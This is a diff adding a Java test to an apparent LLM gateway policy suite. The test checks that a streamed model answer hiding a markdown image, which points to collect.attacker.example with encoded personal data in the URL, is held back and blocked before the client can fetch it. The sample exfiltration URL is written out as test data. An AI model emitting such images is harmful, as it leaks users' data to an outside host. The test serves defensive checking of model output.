@@ -103,6 +103,38 @@ class AgentPresetTest {
     }
 
     @Test
+    void aStreamedImageIsHeldUntilItClosesSoItsDataIsSeenBeforeTheClientFetchesIt() {
+        String answer = "Here is the summary you asked for, with a status badge at the end. ".repeat(3)
+                + "![badge](https://collect.attacker.example/p.png?pad=" + "z".repeat(300)
+                + "&d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ) Thanks.";
+        List<String> chunks = new java.util.ArrayList<>();
+        for (int i = 0; i < answer.length(); i += 5) {
+            chunks.add(answer.substring(i, Math.min(answer.length(), i + 5)));
+        }
+        StringBuilder received = new StringBuilder();
+        try (LlmGate gate = PolicyInterceptorTest.gate(
+                        AGENT,
+                        ScriptedProvider.replying(Reply.chunks(chunks.toArray(new String[0]))),
+                        new PolicyInterceptorTest.CaptureCall());
+                dev.llmgate.api.ChatStream stream = gate.stream(ChatRequest.of("p:m", "Summarise"))) {
+            assertThatThrownBy(() -> {
+                        while (stream.hasNext()) {
+                            if (stream.next() instanceof dev.llmgate.api.StreamEvent.TextDelta d) {
+                                received.append(d.text());
+                            }
+                        }
+                    })
+                    .isInstanceOf(PolicyBlockedException.class)
+                    .satisfies(e ->
+                            assertThat(((PolicyBlockedException) e).ruleIds()).contains("agent.exfiltration-output"));
+        }
+        assertThat(received.toString())
+                .as("no part of the image reached the client")
+                .doesNotContain("![badge]");
+        assertThat(received.toString()).startsWith("Here is the summary");
+    }
+
+    @Test
     void aToolCallCarryingACredentialOrADataUrlIsBlocked() {
         PolicyBlockedException secret = blocked(
                 ChatRequest.of("p:m", "deploy"),
